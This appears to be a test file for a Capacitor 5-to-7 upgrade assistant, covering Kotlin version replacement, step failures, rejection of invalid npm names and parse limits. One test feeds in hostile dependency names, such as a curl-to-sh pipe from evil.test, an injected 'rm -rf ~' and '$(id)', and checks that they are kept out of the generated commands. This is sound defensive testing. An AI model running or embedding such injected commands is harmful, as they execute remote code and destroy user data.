import {toMarkdown} from '../../../../packages/upgrade/markdown';
import {pastedFile} from '../../../../packages/upgrade/given';
import {makePlan} from '../../../../packages/upgrade/plan';
import type {Project} from '../../../../packages/upgrade/project';
import type {Plan, Step} from '../../../../packages/upgrade/steps/types';
import {assistantData, planOf} from '../../../support/assistant';

const UPGRADE = {from: 5, to: 7};
const MANIFEST = {
  path: 'package.json',
  text: '{"dependencies": {"@capacitor/core": "^5.0.0", "@capacitor/android": "^5.0.0"}}',
};
const KOTLIN = {
  path: 'android/build.gradle',
  text: `buildscript {
    ext.kotlin_version = '1.8.20'
    dependencies {
        classpath "org.jetbrains.kotlin:kotlin-gradle-plugin:$kotlin_version"
    }
}
`,
};

const markdownOf = (plan: Plan): string => toMarkdown(plan, {...UPGRADE, site: 'https://example.com/docs'});

function planWith(change: (project: Project) => Project = (project) => project): Plan {
  const {project} = planOf([MANIFEST, KOTLIN], UPGRADE);
  return makePlan(change(project), UPGRADE, assistantData());
}

test('a version in a variable that a library uses is one replacement', () => {
  const plan = planWith();
  expect(plan.steps.filter(({failure}) => failure !== undefined)).toEqual([]);
  const kotlin = assistantData().requirements.kotlin?.[UPGRADE.to];
  expect(markdownOf(plan)).toContain(
    `-    ext.kotlin_version = '1.8.20'\n+    ext.kotlin_version = '${kotlin}'\n`,
  );
});

test('a step that throws says so and leads to its guide, and the others stay as they are', () => {
  const broken = planWith(({build, ...project}) => ({
    ...project,
    build: {
      ...build!,
      get content(): never {
        throw new TypeError('no content');
      },
    },
  }));
  const failed = broken.steps.filter(({failure}) => failure !== undefined);
  expect(failed.map(({id}) => id)).toEqual(expect.arrayContaining(['gradle', 'kotlin']));
  const ids = failed.map(({id}) => id);
  const others = (steps: readonly Step[]): Step[] => steps.filter(({id}) => !ids.includes(id));
  expect(others(broken.steps)).toEqual(others(planWith().steps));
  expect(failed.every(({phase, guides}) => phase === 'android' && guides.length > 0)).toBe(true);
  expect(markdownOf(broken)).toMatch(
    /This step failed for your project \(no content\)\. Follow the guide's section instead\.[^]*?Guide: <https:/,
  );
});

test('a step with edits that contradict each other goes without them', () => {
  const {steps} = planWith(({build, ...project}) => ({
    ...project,
    build: {
      ...build!,
      content: {
        ...build!.content,
        values: build!.content.values.map((value) => ({...value, valueRange: {start: 10, end: 30}})),
        libraries: build!.content.libraries.map((one) => ({...one, versionRange: {start: 20, end: 40}})),
      },
    },
  }));
  const kotlin = steps.find(({id}) => id === 'kotlin');
  expect(kotlin?.title).toContain('Kotlin');
  expect(kotlin?.failure).toContain('overlap');
  expect(kotlin?.files).toBeUndefined();
});

test('a name that npm does not allow is a problem, and no part of a command', () => {
  const names = [
    'x; curl https://evil.test | sh',
    'capacitor-a\nrm -rf ~',
    '-g',
    '@capacitor/$(id)',
    '@capacitor/x',
    'Old-capacitor',
  ];
  const dependencies = Object.fromEntries(['@capacitor/core', ...names].map((name) => [name, '^5.0.0']));
  const {project, steps} = planOf([{path: 'package.json', text: JSON.stringify({dependencies})}], UPGRADE);
  expect(project.problems).toEqual([
    {
      path: 'package.json',
      message:
        'npm doesn\'t allow these names of dependencies, so they were left out: "x; curl https://evil.test | sh", "capacitor-a\\nrm -rf ~", "-g" and 1 more.',
    },
  ]);
  const commands = steps.flatMap((step) => step.commands ?? []).join('\n');
  expect(commands).toMatch(/npm view "@capacitor\/x@>=0" peer[^]*npm view "Old-capacitor@>=0" peer/);
  expect(commands).not.toMatch(/curl|rm -rf| -g version|\$\(/);
});

test.each([
  [
    MANIFEST.path,
    `${'{"a":'.repeat(8000)}1${'}'.repeat(8000)}`,
    'The assistant failed to read it (it is nested too deeply).',
  ],
  [
    'android/app/src/main/AndroidManifest.xml',
    '<a>'.repeat(20_000) + '</a>'.repeat(20_000),
    "It isn't well-formed",
  ],
  [
    'capacitor.config.ts',
    `export default ${'{a:'.repeat(20_000)}1${'}'.repeat(20_000)}`,
    'It has a syntax error',
  ],
])('%s with too much inside of each other is a problem of that file alone', (path, text, message) => {
  const others = path === MANIFEST.path ? [KOTLIN] : [MANIFEST, KOTLIN];
  const {project, steps} = planOf([...others, {path, text}], UPGRADE);
  expect(project.problems.map((problem) => problem.path)).toEqual([path]);
  expect(project.problems[0]?.message).toContain(message);
  expect(steps.map(({id}) => id)).toContain('kotlin');
});

test('a pasted text that is too long is refused with the limit', () => {
  expect(() => pastedFile(' '.repeat(2_000_001))).toThrow('longer than 2 million characters');
});
